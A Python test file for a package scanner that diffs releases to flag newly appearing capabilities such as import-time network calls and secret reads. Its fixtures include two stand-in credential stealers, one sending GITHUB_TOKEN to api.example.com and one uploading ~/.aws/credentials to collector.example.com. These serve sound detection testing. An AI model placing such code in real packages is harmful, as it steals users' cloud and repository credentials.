"""A release judged against its predecessor: capabilities new to the project, and whose findings are news.

Every release is a real wheel built by the test; nothing is installed or run.
"""

from __future__ import annotations

from datetime import UTC, datetime, timedelta
from pathlib import Path

from packaging.utils import canonicalize_name
from packaging.version import Version

from interlock.artifact.reader import read_artifact_bytes
from interlock.demo.wheel import wheel_bytes, wheel_filename, write
from interlock.diff.compare import diff_artifacts
from interlock.index.models import FileKind, IndexFile
from interlock.model.result import ScanResult
from interlock.scanner import ESTABLISHED_AFTER, is_established

HARMLESS = "def greet(name):\n    return f'hello {name}'\n"
NEW_RULE = "new-capability-on-its-own"


def release(tmp_path: Path, version: str, files: dict[str, str]) -> Path:
    return write(tmp_path, wheel_filename("acme", version), wheel_bytes("acme", version, files))


def diff(old: Path, new: Path, *, established: bool = False) -> ScanResult:
    def read(path: Path):
        return read_artifact_bytes(path.name, path.read_bytes())

    return diff_artifacts(read(old), read(new), target=str(new), previous_label=str(old), established=established)


def novel(result: ScanResult) -> list[tuple[str, str, str]]:
    return [(f.severity.label, f.path, f.message) for f in result.findings if f.rule == NEW_RULE]


def test_a_first_ever_network_call_at_import_makes_the_release_suspicious(tmp_path: Path) -> None:
    old = release(tmp_path, "1.0", {"acme/__init__.py": HARMLESS})
    pinging = "import urllib.request\nurllib.request.urlopen('https://stats.example.com/ping')\n" + HARMLESS
    result = diff(old, release(tmp_path, "1.1", {"acme/__init__.py": pinging}))
    assert [(severity, path) for severity, path, _ in novel(result)] == [("high", "acme/__init__.py")]
    assert "no earlier code of the project did" in novel(result)[0][2]
    assert result.verdict.value == "suspicious"


def test_a_new_capability_with_a_secret_read_at_import_is_malicious(tmp_path: Path) -> None:
    old = release(tmp_path, "2.3.0", {"acme/__init__.py": HARMLESS, "acme/util.py": HARMLESS})
    trojan = (
        "import os, urllib.request\n"
        "token = os.environ.get('GITHUB_TOKEN', '')\n"
        "urllib.request.urlopen('https://api.example.com/v1/sync', data=token.encode())\n"
    )
    result = diff(old, release(tmp_path, "2.3.1", {"acme/__init__.py": HARMLESS, "acme/util.py": HARMLESS + trojan}))
    found = novel(result)
    assert [(severity, path) for severity, path, _ in found] == [("critical", "acme/util.py")]
    assert "reads secret-named environment variables" in found[0][2]
    assert result.verdict.value == "malicious"


def test_a_capability_the_predecessor_had_anywhere_is_not_new(tmp_path: Path) -> None:
    # The old release talks to the network when called; the new one also at import: not a new capability.
    client = "import urllib.request\n\ndef fetch(url):\n    return urllib.request.urlopen(url).read()\n"
    old = release(tmp_path, "1.0", {"acme/__init__.py": HARMLESS, "acme/client.py": client})
    warm = client + "\nSCHEMA = urllib.request.urlopen('https://api.example.com/schema').read()\n"
    result = diff(old, release(tmp_path, "1.1", {"acme/__init__.py": HARMLESS, "acme/client.py": warm}))
    assert "new-capability-on-its-own" not in {f.rule for f in result.findings}


def test_build_tools_and_literal_code_are_not_new_capabilities(tmp_path: Path) -> None:
    old = release(tmp_path, "1.0", {"acme/__init__.py": HARMLESS})
    routine = (
        "import subprocess\n"
        "REVISION = subprocess.run(['git', 'rev-parse', 'HEAD'], capture_output=True).stdout\n"
        "exec('DEBUG = False')\n"
    )
    result = diff(old, release(tmp_path, "1.1", {"acme/__init__.py": routine + HARMLESS}))
    assert "new-capability-on-its-own" not in {f.rule for f in result.findings}


STEALER = (
    "import os, urllib.request\n"
    "data = open(os.path.expanduser('~/.aws/credentials')).read()\n"
    "urllib.request.urlopen('https://collector.example.com/u', data.encode())\n"
)


def test_an_unchanged_critical_finding_counts_unless_the_predecessor_is_established(tmp_path: Path) -> None:
    # 1.82.7 then 1.82.8 with the same payload: a young predecessor must not launder its successor.
    old = release(tmp_path, "1.0", {"acme/__init__.py": HARMLESS, "acme/sync.py": STEALER})
    new = release(tmp_path, "1.1", {"acme/__init__.py": HARMLESS + "\nVERSION = '1.1'\n", "acme/sync.py": STEALER})
    young = diff(old, new)
    assert young.verdict.value == "malicious"
    assert all(not f.new for f in young.findings if f.severity.label == "critical")
    # Public for months, the same file is the project's baseline: listed, not counted.
    settled = diff(old, new, established=True)
    assert settled.verdict.value == "clean"
    assert any(f.severity.label == "critical" and not f.new for f in settled.findings)


def test_an_established_predecessor_is_one_uploaded_long_enough_ago() -> None:
    now = datetime(2026, 12, 2, tzinfo=UTC)

    def file(uploaded: datetime | None) -> IndexFile:
        stamp = uploaded.isoformat().replace("+00:00", "Z") if uploaded else None
        return IndexFile(
            canonicalize_name("acme"),
            "acme-1.0.tar.gz",
            "http://127.0.0.1/acme-1.0.tar.gz",
            "0" * 64,
            Version("1.0"),
            FileKind.SDIST,
            upload_time=stamp,
        )

    assert is_established(file(now - ESTABLISHED_AFTER - timedelta(hours=1)), now)
    assert not is_established(file(now - timedelta(minutes=40)), now)
    assert not is_established(file(None), now)  # unknown upload time: not trusted as a baseline


def test_a_setup_py_that_starts_execing_its_version_file_is_not_new(tmp_path: Path) -> None:
    from interlock.demo.wheel import write as write_file

    def sdist(version: str, setup_py: str) -> Path:
        import io
        import tarfile

        buffer = io.BytesIO()
        with tarfile.open(fileobj=buffer, mode="w:gz") as archive:
            for name, text in {
                f"acme-{version}/setup.py": setup_py,
                f"acme-{version}/acme/__init__.py": HARMLESS,
                f"acme-{version}/PKG-INFO": f"Metadata-Version: 2.1\nName: acme\nVersion: {version}\n",
            }.items():
                data = text.encode()
                info = tarfile.TarInfo(name)
                info.size = len(data)
                archive.addfile(info, io.BytesIO(data))
        return write_file(tmp_path, f"acme-{version}.tar.gz", buffer.getvalue())

    old = sdist("2.1.0", "from setuptools import setup\nsetup(name='acme', version='2.1.0')\n")
    new = sdist(
        "2.2.0",
        "from setuptools import setup\nabout = {}\nexec(open('acme/version.py').read(), about)\n"
        "setup(name='acme', version=about['__version__'])\n",
    )
    result = diff(old, new)
    assert "new-capability-on-its-own" not in {f.rule for f in result.findings}
    assert result.verdict.value == "clean"


def test_a_settings_class_reading_dotenv_is_not_a_new_capability(tmp_path: Path) -> None:
    # mcp 1.2.0's FastMCP settings: pydantic-settings reads the working directory's .env.
    old = release(tmp_path, "1.1.0", {"acme/__init__.py": HARMLESS})
    settings = (
        "from pydantic_settings import BaseSettings, SettingsConfigDict\n\n\n"
        "class Settings(BaseSettings):\n"
        "    model_config = SettingsConfigDict(env_prefix='ACME_', env_file='.env', extra='ignore')\n"
        "    debug: bool = False\n"
    )
    result = diff(old, release(tmp_path, "1.2.0", {"acme/__init__.py": HARMLESS, "acme/server.py": settings}))
    assert "new-capability-on-its-own" not in {f.rule for f in result.findings}
    assert any(f.rule == "credential-access" for f in result.findings)  # still reported, just not news
